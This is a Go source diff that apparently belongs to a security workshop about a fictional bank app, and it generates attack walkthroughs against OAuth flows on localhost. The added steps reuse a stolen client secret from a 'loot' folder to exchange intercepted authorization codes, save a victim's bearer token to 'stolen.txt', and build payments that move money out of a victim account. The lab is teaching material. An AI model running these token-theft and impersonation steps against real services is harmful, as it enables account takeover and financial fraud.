@@ -30,6 +30,11 @@ func withUsers(p catalog.Policies) bool        { return p.Call.UserProof != cata
 func withSessions(p catalog.Policies) bool     { return p.Call.UserProof == catalog.UserSession }
 func withTokens(p catalog.Policies) bool       { return p.Call.UserProof == catalog.AccessToken }
 func byPassword(p catalog.Policies) bool       { return p.Auth.Offers(catalog.PasswordGrant) }
+func onPages(p catalog.Policies) bool          { return p.Call.Grant.InAgent() }
+func inTheApp(p catalog.Policies) bool         { return !p.Call.Grant.InAgent() }
+func inFragments(p catalog.Policies) bool      { return p.Call.Grant == catalog.ImplicitGrant }
+func withCodes(p catalog.Policies) bool        { return p.Call.Grant.HasCode() }
+func withRefresh(p catalog.Policies) bool      { return p.Call.Grant == catalog.CodeAndRefresh }
 func staysSignedIn(p catalog.Policies) bool    { return p.Call.UserKey == catalog.UserKeyInStorage }
 func forgetsUsers(p catalog.Policies) bool     { return p.Call.UserKey == catalog.UserKeyInMemory }
 func withoutUsers(p catalog.Policies) bool     { return p.Call.UserProof == catalog.NoUser }
@@ -90,7 +95,18 @@ var (
 		say("Get an access token with a program of your own, in the name of the app: `{fetch} -d grant_type=password -d \"client_id=$(cat loot/client-id)\" -d username=mallory --data-urlencode \"password=$(cat mallory.txt)\" {api}/v1/token > token.json`."),
 		say("Keep the field that stands for you: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > own-session.txt`."),
 	).at(byPassword)
+
+	// Whoever has the app's secret, where there is one, can sign in as the app does.
+	ownSignIn = say("Sign in on the bank's page, with a program of your own that takes part in the app's place: `stages token --stage {stage} --user mallory{own secret} | grep -i ^authorization: > own-session.txt`.").at(onPages)
 )
+
+// redeem trades a code for an access token, and keeps the field that stands for its user.
+func redeem(file string) walk {
+	return slices.Concat(
+		say("Exchange the code, as the app would: `{fetch} -u \"harbour-mobile:$(cat loot/secret)\" -d grant_type=authorization_code -d redirect_uri=com.harbourbank.app:/callback --data-urlencode \"code=$(cat "+file+")\" {auth}/token > token.json`."),
+		say("Keep the field that stands for the victim: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > stolen.txt`."),
+	)
+}
 
 // passwordOf takes a password of the workshop's.
 func passwordOf(user string) walk {
@@ -136,6 +152,14 @@ func Steps(a catalog.Attack, stage catalog.Stage) []string {
 	if stage.Call.Bodies == catalog.SealedBodies {
 		seal = " --seal"
 	}
+	device := ""
+	if withDevices(stage.Policies) {
+		device = ` -H "$(head -n 1 loot/device.txt)" -H "$(tail -n 1 loot/device.txt)"`
+	}
+	ownSecret := ""
+	if stage.Call.ClientAuth == catalog.ClientSecret {
+		ownSecret = ` --secret "$(cat loot/secret)"`
+	}
 	as := func(user string) string {
 		if forgetsUsers(stage.Policies) {
 			return " --user " + user + " --password-file " + user + ".txt"
@@ -145,6 +169,9 @@ func Steps(a catalog.Attack, stage catalog.Stage) []string {
 	agent := fmt.Sprintf(" -A HarbourBank/%d.0", stage.Package.Release)
 	filled := strings.NewReplacer(
 		"{api}", api+stage.Slug,
+		"{auth}", "https://localhost:8444/"+stage.Slug,
+		"{asked for}", "response_type="+responseType(stage.Policies)+"&client_id=harbour-mobile",
+		"{own secret}", ownSecret,
 		"{curl}", "curl -i"+trust+agent,
 		"{fetch}", "curl -sS"+trust+cert+agent, // for a file
 		" {cert}", cert,
@@ -152,6 +179,8 @@ func Steps(a catalog.Attack, stage catalog.Stage) []string {
 		"{proof}", stage.Call.AppProofField(),
 		"{sign}", `stages sign --secret "$(cat loot/secret)"`,
 		"{seal}", seal,
+		" {device}", device,
+		"{own payment}", strings.ReplaceAll(payment("HB-3001", "HB-2001"), "{attack}", a.Name),
 		"{rob}", strings.ReplaceAll(payment("HB-1001", "HB-3001"), "{attack}", a.Name),
 		"{attack}", a.Name,
 		"{as alice}", as("alice"),
@@ -170,4 +199,12 @@ func Steps(a catalog.Attack, stage catalog.Stage) []string {
 		}
 	}
 	return steps
+}
+
+// responseType is what the stage's clients ask the authorization server for.
+func responseType(p catalog.Policies) string {
+	if inFragments(p) {
+		return "token"
+	}
+	return "code"
 }
